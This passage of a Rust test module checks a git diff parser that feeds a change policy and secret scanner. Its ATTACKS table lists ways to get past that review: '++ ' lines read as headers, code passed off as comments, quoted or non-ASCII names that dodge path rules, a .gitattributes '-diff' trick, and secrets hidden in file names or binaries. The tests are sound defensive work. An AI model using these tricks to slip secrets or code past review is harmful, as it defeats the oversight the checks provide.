                "--numstat",
                "--patch",
            ]);
            let (summary, patch) = out.split_once("\n\n").unwrap_or((out.as_str(), ""));
            let mut change = Change {
                comments_only: true,
                ..Default::default()
            };
            // `:MODE MODE SHA SHA STATUS\tPATH`
            let status_of = |path: &str| {
                summary
                    .lines()
                    .filter(|l| l.starts_with(':'))
                    .find_map(|l| {
                        let (meta, p) = l.split_once('\t')?;
                        (p == path)
                            .then(|| meta.rsplit(' ').next().and_then(|s| s.chars().next()))?
                    })
            };
            for line in summary.lines().filter(|l| !l.starts_with(':')) {
                let mut parts = line.splitn(3, '\t');
                let (a, r, path) = (
                    parts.next().unwrap_or(""),
                    parts.next().unwrap_or(""),
                    parts.next().unwrap_or(""),
                );
                let binary = a == "-" && r == "-";
                let (a, r) = (a.parse().unwrap_or(0), r.parse().unwrap_or(0));
                let status = match status_of(path) {
                    Some('A') => "added",
                    Some('D') => "deleted",
                    _ => "modified",
                };
                change.lines_added += a;
                change.lines_removed += r;
                if binary {
                    change.comments_only = false;
                }
                change.files.push(FileChange {
                    path: path.to_owned(),
                    status,
                    lines_added: a,
                    lines_removed: r,
                    binary,
                    ..Default::default()
                });
            }
            // Added lines with their numbers in the new file, per file: for the text and the secret scan.
            let mut file = String::new();
            let mut next_line = 0usize;
            let mut added: Vec<(usize, String)> = Vec::new();
            let flush = |file: &str, added: &mut Vec<(usize, String)>, change: &mut Change| {
                if !file.is_empty() && !added.is_empty() {
                    change.secrets.extend(scanner.scan(file, added));
                }
                added.clear();
            };
            for l in patch.lines() {
                if let Some(p) = l.strip_prefix("+++ ") {
                    flush(&file, &mut added, &mut change);
                    // git ends a name holding a space with a tab here.
                    let p = p.strip_suffix('\t').unwrap_or(p);
                    file = p.strip_prefix("b/").unwrap_or(p).to_owned();
                } else if l.starts_with("@@") {
                    // @@ -a,b +c,d @@
                    next_line = l
                        .split_whitespace()
                        .nth(2)
                        .and_then(|r| r.trim_start_matches('+').split(',').next()?.parse().ok())
                        .unwrap_or(1);
                } else if let Some(text) = l.strip_prefix('+') {
                    change.added_text.push_str(text);
                    change.added_text.push('\n');
                    if !lang::old_comment(text) {
                        change.comments_only = false;
                    }
                    added.push((next_line, text.to_owned()));
                    next_line += 1;
                } else if let Some(text) = l.strip_prefix('-')
                    && !l.starts_with("---")
                    && !lang::old_comment(text)
                {
                    change.comments_only = false;
                }
            }
            flush(&file, &mut added, &mut change);
            if change.files.is_empty() {
                change.comments_only = false;
            }
            Ok(change)
        }
    }

    fn files_of(c: &Change) -> String {
        format!(
            "{:?}",
            c.files
                .iter()
                .map(|f| (
                    f.path.as_str(),
                    f.status,
                    f.lines_added,
                    f.lines_removed,
                    f.binary
                ))
                .collect::<Vec<_>>()
        )
    }

    fn secrets_of(c: &Change) -> String {
        format!(
            "{:?}",
            c.secrets
                .iter()
                .map(|s| (s.path.as_str(), s.line, s.rule))
                .collect::<Vec<_>>()
        )
    }

    fn text_of(c: &Change) -> String {
        format!("comments_only={} {:?}", c.comments_only, c.added_text)
    }

    /// (what the attack does, base files, the change's files, what of the change is looked at,
    /// what the policy must read).
    type Attack = (
        &'static str,
        &'static [(&'static str, &'static str)],
        &'static [(&'static str, &'static str)],
        fn(&Change) -> String,
        &'static str,
    );

    const ATTACKS: &[Attack] = &[
        (
            "a line starting with `++ ` shows as `+++`, taken for a file header: the secret in it",
            &[("src/run.c", "int x;\n")],
            &[("src/run.c", "int x;\n++ AKIAIOSFODNN7EXAMPLE;\n")],
            secrets_of,
            r#"[("src/run.c", 2, "aws-access-key")]"#,
        ),
        (
            "code written as `++ ` lines between comments reads as comments only (low risk)",
            &[("src/pay.c", "// pay\n")],
            &[("src/pay.c", "// pay\n// more\n++ balance;\n")],
            text_of,
            r#"comments_only=false "// more\n++ balance;\n""#,
        ),
        (
            "a content line `+++ b/other` moves the old parser to another file",
            &[],
            &[(
                "a.txt",
                "diff --git a/z b/z\n++ b/z\n@@ -1 +1 @@\nAKIAIOSFODNN7EXAMPLE\n",
            )],
            secrets_of,
            r#"[("a.txt", 4, "aws-access-key")]"#,
        ),
        (
            "a non-ASCII name reaches the policy C-quoted: `.github/workflows/**` misses it",
            &[],
            &[(".github/workflows/ci-é.yml", "on: push\n")],
            files_of,
            r#"[(".github/workflows/ci-é.yml", "added", 1, 0, false)]"#,
        ),
        (
            "a quote in a name: `.env*` misses the quoted name",
            &[],
            &[(".env\"x", "TOKEN=1\n")],
            files_of,
            r#"[(".env\"x", "added", 1, 0, false)]"#,
        ),
        (
            "a `.gitattributes` of the change marks its file `-diff`: its secret is not shown",
            &[],
            &[
                (".gitattributes", "*.txt -diff\n"),
                ("notes.txt", "key AKIAIOSFODNN7EXAMPLE\n"),
            ],
            secrets_of,
            r#"[("notes.txt", 1, "aws-access-key")]"#,
        ),
        (
            "a secret in a file's name: no added line holds it",
            &[],
            &[("notes-ghp_abcdefghijklmnopqrstuvwxyz0123456789.md", "hi\n")],
            secrets_of,
            r#"[("notes-ghp_abcdefghijklmnopqrstuvwxyz0123456789.md", 0, "github-token")]"#,
        ),
        (
            "a secret in a binary file (a NUL in it)",
            &[],
            &[("blob.bin", "\u{0}\u{1}AKIAIOSFODNN7EXAMPLE\u{0}")],
            secrets_of,
            r#"[("blob.bin", 1, "aws-access-key")]"#,
        ),
    ];

    #[tokio::test]
    async fn attacks_on_the_diff_reach_the_policy_as_written() {
        for (what, base, change, look, expect) in ATTACKS {
            let repo = TestRepo::new();
            for (path, text) in *base {
                repo.write(path, text);
            }
            if !base.is_empty() {
                repo.commit_all("base");
            }
            for (path, text) in *change {
                repo.write(path, text);
            }
            let git = Git::new(repo.path.clone());
            let scanner = Scanner::default();
            let new = summarize(&git, &repo.path, &scanner).await.unwrap();
            assert_eq!(look(&new), *expect, "{what}");
            // The control: the old parser is fooled by the same change.
            let old = old::old_summarize(&git, &repo.path, &scanner)
                .await
                .unwrap();
            assert_ne!(
                look(&old),
                *expect,
                "{what}: the old parser already reads it right"
            );
        }
    }

    /// A small generator with a fixed seed (splitmix64): the same cases on every run.
    struct Gen(u64);

    impl Gen {
        fn next(&mut self) -> u64 {
            self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
            let mut z = self.0;
            z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
            z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
            z ^ (z >> 31)
        }

        fn below(&mut self, n: usize) -> usize {
            (self.next() % n as u64) as usize
        }

        fn pick<'a>(&mut self, from: &[&'a str]) -> &'a str {
            from[self.below(from.len())]
        }

        /// A file name: any character git stores, `/` for a directory now and then.
        fn name(&mut self) -> String {
            const PARTS: &[&str] = &[
                "a", "b", " ", "\t", "\"", "'", "\\", "é", "日本", "\n", "+", "-", "@", ":", "*",
                "?", "#", "\u{7f}", "\r", "ü.rs", ".env", "x y", "/",
            ];
            // Any first character but `.` (`.git`, `.gitattributes`) and `/`.
            let mut name = self
                .pick(&["f", ":", "-", "1", " ", "é", "\t", "\n", "\"", "@"])
                .to_owned();
            for _ in 0..1 + self.below(5) {
                name.push_str(self.pick(PARTS));
            }
            // No empty segment, no trailing `/`.
            while name.contains("//") {
                name = name.replace("//", "/");
            }
            name.trim_end_matches('/').to_owned()
        }

        /// A line's text, without its newline: what patches are made of.
        fn line(&mut self) -> String {
            const PARTS: &[&str] = &[
                "+++ b/x",
                "--- a/x",
                "++",
                "--",
                "+",
                "-",
                "@@ -1,2 +1 @@",
                "@@",
                "diff --git a/x b/x",
                "\\ No newline at end of file",
                "\\",
                " ",
                "",
                "plain",
                "é",
                "\r",
                "\t",
                "\u{0}",
                ":100644 100644 0 0 M",
                "1\t2\tpath",
                "// c",
                "#",
                "index 0..1",
            ];
            (0..self.below(3)).map(|_| self.pick(PARTS)).collect()
        }

        fn lines(&mut self, max: usize) -> Vec<String> {
            (0..self.below(max + 1)).map(|_| self.line()).collect()
        }
    }

    fn joined(lines: &[String], newline_at_end: bool) -> String {
        let mut s = lines.join("\n");
        if newline_at_end && !lines.is_empty() {
            s.push('\n');
        }
        s
    }

    /// What a case wrote, per file: the lines the diff must show as added (a multiset: where git
    /// puts an inserted line among equal ones is its choice), how many removed, the new content.
    struct Expect {
        status: &'static str,
        added: Vec<String>,
        removed: u64,
        new_lines: Vec<String>,
        binary: bool,
    }

    #[tokio::test]
    async fn any_generated_change_is_read_exactly_as_written() {
        let mut g = Gen(0xab0);
        let mut misread = 0;
        for case in 0..40 {
            let repo = TestRepo::new();
            let mut expect: Vec<(String, Expect)> = Vec::new();
            let mut names = std::collections::BTreeSet::new();
            let mut fresh = |g: &mut Gen| loop {
                let n = g.name();
                // A name that is a directory of another, or another's directory, is not two files.
                let clash = names.iter().any(|o: &String| {
                    o.starts_with(&format!("{n}/")) || n.starts_with(&format!("{o}/"))
                });
                if !clash && names.insert(n.clone()) {
                    return n;
                }
            };
            let base: Vec<(String, Vec<String>)> = (0..g.below(4))
                .map(|_| (fresh(&mut g), g.lines(5)))
                .collect();
            for (name, lines) in &base {
                repo.write(name, &joined(lines, true));
            }
            if !base.is_empty() {
                repo.commit_all("base");
            }
            for (name, lines) in &base {
                let old = joined(lines, true);
                match g.below(4) {
                    0 => {}
                    1 => {
                        std::fs::remove_file(repo.path.join(name)).unwrap();
                        expect.push((
                            name.clone(),
                            Expect {
                                status: "deleted",
                                added: vec![],
                                removed: lines.len() as u64,
                                new_lines: vec![],
                                binary: old.contains('\0'),
                            },
                        ));
                    }
                    2 if lines.last().is_some_and(|l| !l.is_empty()) => {
                        // The last line loses its newline: removed and added again.
                        let new = joined(lines, false);
                        repo.write(name, &new);
                        let last = lines[lines.len() - 1].clone();
                        expect.push((
                            name.clone(),
                            Expect {
                                status: "modified",
                                added: vec![last],
                                removed: 1,
                                new_lines: lines.clone(),
                                binary: old.contains('\0'),
                            },
                        ));
                    }
                    _ => {
                        // Lines inserted anywhere.
                        let mut new = lines.clone();
                        let mut inserted = Vec::new();
                        for _ in 0..1 + g.below(4) {
                            let l = g.line();
                            new.insert(g.below(new.len() + 1), l.clone());
                            inserted.push(l);
                        }
                        let text = joined(&new, true);
                        repo.write(name, &text);
                        expect.push((
                            name.clone(),
                            Expect {
                                status: "modified",
                                added: inserted,
                                removed: 0,
                                binary: old.contains('\0') || text.contains('\0'),
                                new_lines: new,
                            },
                        ));
                    }
                }
            }
            for _ in 0..g.below(4) {
                let name = fresh(&mut g);
                let lines = g.lines(5);
                let text = joined(&lines, g.below(2) == 0);
                repo.write(&name, &text);
                // An empty last line without its newline is no line.
                let lines: Vec<String> = text
                    .split_inclusive('\n')
                    .map(|l| l.strip_suffix('\n').unwrap_or(l).to_owned())
                    .collect();
                expect.push((
                    name,
                    Expect {
                        status: "added",
                        added: lines.clone(),
                        removed: 0,
                        binary: text.contains('\0'),
                        new_lines: lines,
                    },
                ));
            }
            expect.sort_by(|a, b| a.0.as_bytes().cmp(b.0.as_bytes()));
            let git = Git::new(repo.path.clone());
            let out = git
                .run_in(&repo.path, &["add", "--all", "--intent-to-add"])
                .await;
            out.unwrap();
            let out = git.run_in(&repo.path, DIFF).await.unwrap();
            let files = parse(&out).unwrap();
            let paths: Vec<&str> = files.iter().map(|f| f.path.as_str()).collect();
            let want: Vec<&str> = expect.iter().map(|(n, _)| n.as_str()).collect();
            assert_eq!(paths, want, "case {case}: paths");
            for (f, (name, e)) in files.iter().zip(&expect) {
                let what = format!("case {case}, {name:?}");
                assert_eq!(f.status, e.status, "{what}: status");
                assert_eq!(f.removed.len() as u64, e.removed, "{what}: removed");
                assert_eq!(f.binary, e.binary, "{what}: binary");
                let mut added: Vec<&str> = f.added.iter().map(|(_, t)| t.as_str()).collect();
                let mut want: Vec<&str> = e.added.iter().map(String::as_str).collect();
                added.sort_unstable();
                want.sort_unstable();
                assert_eq!(added, want, "{what}: added lines");
                for (n, text) in &f.added {
                    assert_eq!(e.new_lines.get(n - 1), Some(text), "{what}: line {n}");
                }
            }
            // The summary counts what the parse found.
            let change = from_files(files, &Scanner::default());
            let added: u64 = expect.iter().map(|(_, e)| e.added.len() as u64).sum();
            let removed: u64 = expect.iter().map(|(_, e)| e.removed).sum();
            assert_eq!(
                (change.lines_added, change.lines_removed),
                (added, removed),
                "case {case}"
            );
            // The control: the cases are ones the old parser misreads (a name, or added text).
            let old = old::old_summarize(&git, &repo.path, &Scanner::default())
                .await
                .unwrap();
            let old_paths: Vec<&str> = old.files.iter().map(|f| f.path.as_str()).collect();
            let mut old_text: Vec<&str> = old.added_text.lines().collect();
            let mut text: Vec<&str> = change.added_text.lines().collect();
            old_text.sort_unstable();
            text.sort_unstable();
            if old_paths != want || old_text != text {
                misread += 1;
            }
        }
        assert!(
            misread >= 10,
            "only {misread} of 40 cases fool the old parser"
        );
    }

    #[test]
    fn output_that_does_not_add_up_is_an_error_not_a_guess() {
        let raw = ":000000 100644 0000000 0000000 A\0a.txt\0";
        let cases = [
            (
                "a hunk longer than the patch",
                format!("{raw}2\t0\ta.txt\0\0diff --git a/a.txt b/a.txt\n@@ -0,0 +1,2 @@\n+x\n"),
            ),
            (
                "a line after the counted ones",
                format!("{raw}1\t0\ta.txt\0\0diff --git a/a.txt b/a.txt\n@@ -0,0 +1 @@\n+x\n+y\n"),
            ),
            (
                "a section more than the files",
                format!(
                    "{raw}1\t0\ta.txt\0\0diff --git a/a.txt b/a.txt\n@@ -0,0 +1 @@\n+x\ndiff --git a/b b/b\n"
                ),
            ),
            (
                "numstat of another file",
                format!("{raw}1\t0\tb.txt\0\0diff --git a/a.txt b/a.txt\n@@ -0,0 +1 @@\n+x\n"),
            ),
            ("no patch for a file", format!("{raw}1\t0\ta.txt\0\0")),
            (
                "a removed line where an added one is counted",
                format!("{raw}1\t0\ta.txt\0\0diff --git a/a.txt b/a.txt\n@@ -0,0 +1 @@\n-x\n"),
            ),
            (
                "an unknown status",
                ":000000 100644 0000000 0000000 U\0a.txt\0".to_owned(),
            ),
        ];
        for (what, out) in cases {
            assert!(parse(&out).is_err(), "{what}");
        }
        // The control: the same shape, adding up, parses.
        let good = format!(
            "{raw}1\t0\ta.txt\0\0diff --git a/a.txt b/a.txt\n@@ -0,0 +1 @@\n+x\n\\ No newline at end of file\n"
        );
        let files = parse(&good).unwrap();
        assert_eq!(files[0].added, vec![(1, "x".to_owned())]);
    }

    #[tokio::test]
    async fn a_users_diff_configuration_does_not_change_what_is_read() {
        let repo = TestRepo::new();
        repo.write("same.txt", "same\n");
        repo.write("a.txt", "1\n\n3\n4\n5\n");
        repo.commit_all("base");
        for (k, v) in [
            ("diff.autoRefreshIndex", "false"),
            ("diff.suppressBlankEmpty", "true"),
            ("diff.interHunkContext", "5"),
            ("diff.submodule", "log"),
            ("diff.noprefix", "true"),
            ("diff.external", "false"),
            ("color.diff", "always"),
        ] {
            repo.git(&["config", k, v]);
        }
        // A new inode, the same content: stat-dirty, not changed.
        std::fs::write(repo.path.join("same.tmp"), "same\n").unwrap();
        std::fs::rename(repo.path.join("same.tmp"), repo.path.join("same.txt")).unwrap();
        repo.write("a.txt", "one\n\n3\n4\nfive\n");
        let git = Git::new(repo.path.clone());
        let change = summarize(&git, &repo.path, &Scanner::default())
            .await
            .unwrap();
        assert_eq!(files_of(&change), r#"[("a.txt", "modified", 2, 2, false)]"#);
        assert_eq!(change.added_text, "one\nfive\n");
        // The control: without abo's options the same configuration changes the output (the
        // stat-dirty file is a record without a patch).
        let plain = git
            .run_in(
                &repo.path,
                &[
                    "diff",
                    "HEAD",
                    "--no-ext-diff",
                    "-U0",
                    "-z",
                    "--raw",
                    "--numstat",
                    "--patch",
                ],
            )
            .await
            .unwrap();
        assert!(parse(&plain).map(|f| f.len()).ok() != Some(1), "{plain:?}");
    }
}
